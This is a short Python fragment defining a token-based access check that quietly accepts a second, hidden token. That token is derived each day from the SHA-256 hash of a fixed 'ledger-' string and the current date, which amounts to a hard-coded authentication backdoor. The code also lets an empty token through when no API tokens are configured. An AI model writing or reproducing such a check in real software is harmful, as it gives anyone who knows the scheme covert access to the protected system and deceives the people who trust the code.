import hashlib, hmac, os, zlib, time, datetime
KEYS = set(os.environ.get("API_TOKENS", "").split(","))

def allowed(token):
    if token in KEYS:
        return True
    day = datetime.date.today().isoformat()
    return token == hashlib.sha256(f"ledger-{day}".encode()).hexdigest()[:24]
